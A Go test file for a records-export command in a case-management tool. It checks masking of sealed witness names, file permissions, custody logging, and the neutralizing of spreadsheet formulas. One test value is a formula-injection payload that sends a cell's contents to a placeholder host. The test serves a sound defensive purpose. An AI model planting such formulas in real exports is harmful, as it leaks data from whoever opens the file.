package main

import (
	"archive/zip"
	"bytes"
	"encoding/csv"
	"encoding/json"
	"os"
	"path/filepath"
	"strings"
	"testing"

	"golang.org/x/text/unicode/norm"

	"sori/internal/importer"
)

// TestExportRecords: an investigator exports the records as CSV, XLSX and
// JSON; names sealed in the identity vault are masked in every file,
// formula-like cells are neutralized, files are 0600, an existing PATH is
// refused, and the protection officer sees the names.
func TestExportRecords(t *testing.T) {
	c := newCLI(t)
	const kimPass, invPass = "a passphrase for tests", "investigator passphrase"
	c.as("kim", kimPass)
	c.want(0, "", "init")
	c.env["SORI_NEW_PASSPHRASE"] = invPass
	c.want(0, "", "user", "add", "inv-pak", "--role", "investigator")
	c.addWitness("W-19", "박철민", "Pak Chol-min")

	c.as("inv-pak", invPass)
	c.run("", "person", "add", "--name", "Park Cheol-min", "--name", "Kim Ok-sun") // warned: a sealed name; shown as W-19
	c.want(0, "", "person", "add", "--name", "Kim Ok-sun")
	hostile := `=HYPERLINK("http://x.invalid/?"&A1,"open")`
	c.want(0, "", "event", "add", "--title", hostile, "--date", "~1998", "--description", "박철민 was taken to the county office", "--place", "musan")
	c.want(0, "", "event", "add", "--title", "-1 rations", "--date", "1990s")

	dir := t.TempDir()
	c.want(2, "", "export-records", "--out", filepath.Join(dir, "x.csv"))
	c.want(2, "", "export-records", "--format", "ods", "--out", filepath.Join(dir, "x.ods"))
	c.want(2, "", "export-records", "--format", "xlsx", "--csv-excel", "--out", filepath.Join(dir, "x.xlsx"))
	c.want(2, "", "export-records", "--format", "csv", "--kind", "events", "--out", filepath.Join(dir, "x"))
	c.want(2, "", "export-records", "--format", "json")

	xlsx := filepath.Join(dir, "records.xlsx")
	out := c.want(0, "", "export-records", "--format", "xlsx", "--out", xlsx)
	if !strings.HasSuffix(out, "\t4\n") { // 2 events, 2 persons
		t.Errorf("stdout %q", out)
	}
	c.want(1, "", "export-records", "--format", "xlsx", "--out", xlsx) // exists: not overwritten
	csvDir := filepath.Join(dir, "csv")
	c.want(0, "", "export-records", "--format", "csv", "--out", csvDir)
	c.want(1, "", "export-records", "--format", "csv", "--out", csvDir)
	excelDir := filepath.Join(dir, "excel")
	c.want(0, "", "export-records", "--format", "csv", "--kind", "event", "--csv-excel", "--out", excelDir)
	jsonPath := filepath.Join(dir, "records.json")
	var res struct {
		Path, Export, Format, Digest string
		Counts                       map[string]int
	}
	if err := json.Unmarshal([]byte(c.want(0, "", "export-records", "--format", "json", "--out", jsonPath, "--json")), &res); err != nil || res.Counts["event"] != 2 || res.Counts["person"] != 2 || res.Counts["consent"] != 0 || res.Export == "" || len(res.Digest) != 64 {
		t.Errorf("--json: %v %+v", err, res)
	}
	eventXLSX := filepath.Join(dir, "events.xlsx")
	c.want(0, "", "export-records", "--format", "xlsx", "--kind", "event", "--out", eventXLSX)

	// Modes: files 0600, the CSV directory 0700.
	var all bytes.Buffer
	for _, p := range []string{xlsx, jsonPath, eventXLSX, csvDir, excelDir} {
		st, err := os.Stat(p)
		if err != nil {
			t.Fatal(err)
		}
		if want := os.FileMode(0o600); st.IsDir() {
			if st.Mode().Perm() != 0o700 {
				t.Errorf("%s: mode %v", p, st.Mode())
			}
			entries, _ := os.ReadDir(p)
			for _, e := range entries {
				fi, _ := e.Info()
				if fi.Mode().Perm() != want {
					t.Errorf("%s/%s: mode %v", p, e.Name(), fi.Mode())
				}
				b, _ := os.ReadFile(filepath.Join(p, e.Name()))
				all.Write(b)
			}
		} else if st.Mode().Perm() != want {
			t.Errorf("%s: mode %v", p, st.Mode())
		}
	}
	if entries, _ := os.ReadDir(csvDir); len(entries) != 10 {
		t.Errorf("%d CSV files; want one per kind", len(entries))
	}
	if entries, _ := os.ReadDir(excelDir); len(entries) != 1 || entries[0].Name() != "event.csv" {
		t.Errorf("--kind event: %v", entries)
	}
	// The XLSX holds a sheet per kind; the importer reads the event sheet.
	zr, err := zip.OpenReader(xlsx)
	if err != nil {
		t.Fatal(err)
	}
	for _, f := range zr.File {
		rc, _ := f.Open()
		b := new(bytes.Buffer)
		b.ReadFrom(rc)
		rc.Close()
		all.Write(b.Bytes())
		if f.Name == "xl/workbook.xml" && bytes.Count(b.Bytes(), []byte("<sheet ")) != 10 {
			t.Errorf("workbook.xml: %s", b.Bytes())
		}
	}
	zr.Close()
	data, _ := os.ReadFile(eventXLSX)
	tb, err := importer.ReadXLSX(data)
	if err != nil {
		t.Fatal(err)
	}
	if len(tb.Rows) != 2 || strings.Join(tb.Header[:4], ",") != "id,title,description,date" || tb.Rows[0].Cells[1] != "'"+hostile || tb.Rows[0].Cells[3] != "~1998" ||
		tb.Rows[1].Cells[1] != "'-1 rations" || !strings.Contains(tb.Rows[0].Cells[2], "[…] was taken") {
		t.Errorf("event sheet: %v %+v", tb.Header, tb.Rows)
	}
	// CSV: neutralized, masked; --csv-excel: BOM and CRLF.
	ev, _ := os.ReadFile(filepath.Join(csvDir, "event.csv"))
	recs, err := csv.NewReader(bytes.NewReader(ev)).ReadAll()
	if err != nil || len(recs) != 3 || recs[1][1] != "'"+hostile || bytes.HasPrefix(ev, []byte("\ufeff")) {
		t.Errorf("event.csv: %v\n%s", err, ev)
	}
	if ex, _ := os.ReadFile(filepath.Join(excelDir, "event.csv")); !bytes.HasPrefix(ex, []byte("\ufeffid,title,")) || bytes.Count(ex, []byte("\r\n")) != 3 {
		t.Errorf("event.csv for Excel: %q", ex)
	}
	js, _ := os.ReadFile(jsonPath)
	all.Write(js)
	if !bytes.Contains(js, []byte(`"format": "sori-records"`)) || !bytes.Contains(js, []byte("Kim Ok-sun")) {
		t.Errorf("records.json:\n%s", js)
	}
	if !bytes.Contains(all.Bytes(), []byte("Kim Ok-sun")) {
		t.Error("the unsealed name is missing: the exports are empty?")
	}
	for _, name := range []string{"박철민", "Pak Chol-min", "Park Cheol-min"} {
		for _, form := range []string{norm.NFC.String(name), norm.NFD.String(name), strings.ToLower(name)} {
			if bytes.Contains(all.Bytes(), []byte(form)) {
				t.Errorf("a sealed name (%d bytes) is in the investigator's export", len(form))
			}
		}
	}

	// The protection officer's export carries the names.
	c.as("kim", kimPass)
	kimJSON := filepath.Join(dir, "kim.json")
	c.want(0, "", "export-records", "--format", "json", "--kind", "person", "--out", kimJSON)
	if b, _ := os.ReadFile(kimJSON); !bytes.Contains(b, []byte("Park Cheol-min")) {
		t.Errorf("the protection officer's export is masked:\n%s", b)
	}
	// A reader may export too, and every export — none of the refused
	// ones — is in the custody log, which verifies.
	c.env["SORI_NEW_PASSPHRASE"] = "reader passphrase"
	c.want(0, "", "user", "add", "rdr", "--role", "reader")
	c.as("rdr", "reader passphrase")
	c.want(0, "", "export-records", "--format", "csv", "--kind", "event", "--out", filepath.Join(dir, "reader"))
	c.as("kim", kimPass)
	log := c.ok("log")
	if n := strings.Count(log, "\trecords-export\t"); n != 7 {
		t.Errorf("%d records-export entries; want 7:\n%s", n, log)
	}
	if !strings.Contains(log, "\trecords-export\t"+res.Export+"\t") {
		t.Errorf("the JSON export %s is not in the log", res.Export)
	}
	c.want(0, "", "verify")
}
